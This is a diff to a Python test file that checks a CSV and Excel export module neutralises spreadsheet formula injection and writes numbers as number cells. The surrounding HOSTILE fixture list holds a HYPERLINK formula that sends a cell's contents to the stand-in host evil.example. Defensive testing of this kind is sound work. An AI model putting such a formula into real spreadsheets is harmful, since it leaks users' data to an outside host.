@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from shared.http.exports import FORMULA_STARTS, csv_text, is_number, safe_cell
+from shared.http.exports import FORMULA_STARTS, Sheet, csv_text, is_number, safe_cell, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"open")',
@@ -92,3 +92,33 @@ def test_our_numbers_are_written_as_plain_numerals(number: int | Decimal | float
     """Only a numeral's characters (a Decimal never in exponent form), and the value reads back exactly."""
     (cell,) = _read_back(csv_text(["n"], [[number]]))[1]
     assert Decimal(cell) == Decimal(str(number)) and set(cell) <= set("-0123456789.e+E")
+
+
+def _workbook(header: list[object], rows: list[list[object]], two_places: frozenset[int] = frozenset()):
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("t", header, rows, two_places)])))
+    return list(book["t"].iter_rows())
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_in_a_workbook_text_a_spreadsheet_would_run_is_a_text_cell(text: str) -> None:
+    """Issue 22: the Excel reports; the cell is text (never a formula cell) and behind the same quote as in CSV."""
+    [_, [cell]] = _workbook(["who"], [[text]])
+    assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")  # XML reads CR as a line end
+
+
+def test_in_a_workbook_our_numbers_are_number_cells_money_with_two_places() -> None:
+    [header, row] = _workbook(["n", "amount", "name"], [[3, Decimal("-12.50"), "王伟"]], frozenset({1}))
+    assert [c.value for c in header] == ["n", "amount", "name"]
+    assert (row[0].data_type, row[0].value) == ("n", 3)
+    assert (row[1].data_type, row[1].number_format, Decimal(str(row[1].value))) == ("n", "0.00", Decimal("-12.5"))
+    assert (row[2].data_type, row[2].value) == ("s", "王伟")
+
+
+@given(st.lists(st.lists(ANYTHING, min_size=1, max_size=3), max_size=3))
+def test_no_workbook_cell_is_a_formula_whatever_it_is_given(rows: list[list[object]]) -> None:
+    for line in _workbook(["a", "b", "c"], rows):
+        for cell in line:
+            assert cell.data_type != "f"
+            assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
